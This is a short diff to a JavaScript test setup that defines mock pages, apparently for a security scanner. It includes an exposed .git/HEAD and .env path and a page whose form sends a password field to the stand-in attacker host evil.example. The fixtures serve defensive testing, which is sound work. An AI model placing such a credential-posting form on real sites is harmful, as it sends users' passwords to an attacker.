@@ -28,7 +28,7 @@ beforeAll(async () => {
       headers: SECURE,
       body: `<!doctype html><head>${shown.meta}</head>${shown.body}<a href="/in">In</a><a href="http://other.localhost:${site.port}/">Out</a>`,
     }),
-    '/in': '<title>In</title><form action="http://evil.example/"><input type=password></form>',
+    '/in': '<title>In</title><form action="http://evil.example/"><input type=password name=p></form>',
     '/.git/HEAD': 'ref: refs/heads/main\n',
     '/.env': '<h1>We show this page for everything</h1>',
     'away.localhost/': ({ port }) => ({
